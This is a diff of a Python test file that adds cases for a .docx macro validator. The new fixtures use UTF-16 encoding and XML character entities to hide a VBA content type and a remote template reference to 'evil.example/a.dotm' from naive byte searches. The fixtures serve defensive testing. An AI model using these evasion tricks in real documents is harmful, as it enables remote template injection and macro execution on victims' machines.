@@ -308,6 +308,13 @@ def test_damaged_documents_of_word_97_are_refused_or_accepted():
             "word/_rels/settings.xml.rels": b'<Relationship Type="http://schemas.openxmlformats.org/'
             b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm"/>',
         },
+        # As Office reads it, and a search for bytes does not.
+        {TYPES: '<Default ContentType="application/vnd.ms-office.vbaProject"/>'.encode("utf-16")},
+        {
+            TYPES: b"<x/>",
+            "word/_rels/More.XML.Rels": b'<Relationship Id=">" Type="http://x/attached&#84;emplate" '
+            b'Target="&#104;ttps://evil.example/a.dotm"/>',
+        },
     ],
 )
 def test_a_docx_whose_macros_have_another_name_is_refused(members):
